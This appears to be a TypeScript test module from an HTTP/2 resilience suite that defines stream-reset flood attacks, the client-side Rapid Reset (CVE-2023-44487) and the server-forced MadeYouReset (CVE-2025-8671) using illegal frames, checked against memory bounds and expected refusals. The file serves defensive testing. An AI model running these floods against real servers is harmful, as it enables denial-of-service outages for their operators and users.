/** Streams that are opened to be ended: by the client (CVE-2023-44487), or by the server when frames force it to (CVE-2025-8671). */
import { frame, FrameType } from "../support/h2_frames.ts";
import type { Attack } from "./_attack.ts";
import { credit, data, H2Wire, request, rst, u32 } from "./_h2_wire.ts";
import type { Place, Rig } from "./_rig.ts";

const PLACES = ["outbound", "inbound", "mesh"] as const;
const STREAMS = 200_000;

/** Opens streams and makes each end at once, on one connection after another. */
async function resetAll(rig: Rig, place: Place, count: number, make: (id: number) => Uint8Array): Promise<string> {
  let sent = 0;
  let connections = 0;
  for (; sent < count && connections < 20; connections++) {
    using peer = await H2Wire.start(await rig.open(place, "http2"));
    sent += await peer.flood(count - sent, () => make(peer.id()), 200);
    await Promise.race([peer.wire.closed, Bun.sleep(1_000)]);
  }
  return `${sent} streams on ${connections} connections`;
}

const clientResets = (place: Place): Attack => ({
  name: "rapid reset: 200,000 streams opened and reset by the client",
  place,
  boundMb: 40,
  refusals: ["flood"],
  run: (rig, scale) =>
    resetAll(rig, place, scale.of(STREAMS, 60_000), (id) => Buffer.concat([request(id, "/"), rst(id)])),
});

const FORCED: readonly [string, (id: number) => Buffer][] = [
  ["window update of 0", (id) => credit(id, 0)],
  ["window above 2^31-1", (id) => credit(id, 0x7fff_ffff)],
  ["DATA behind the end", (id) => data(id, Buffer.alloc(1))],
  ["HEADERS behind the end", (id) => request(id, "/never")],
  [
    "a stream that depends on itself",
    (id) => frame(FrameType.PRIORITY, 0, id, Buffer.concat([u32(id), Buffer.alloc(1)])),
  ],
];

const serverResets = (place: Place): Attack => ({
  name: "MadeYouReset: 200,000 streams that illegal frames make the server reset",
  place,
  boundMb: 40,
  refusals: ["flood"],
  run: (rig, scale) =>
    resetAll(rig, place, scale.of(STREAMS, 60_000), (id) => {
      const [, make] = FORCED[(id >> 1) % FORCED.length] as (typeof FORCED)[number]; // in range
      return Buffer.concat([request(id, "/never"), make(id)]);
    }),
});

export const RESETS: readonly Attack[] = PLACES.flatMap((place) => [clientResets(place), serverResets(place)]);
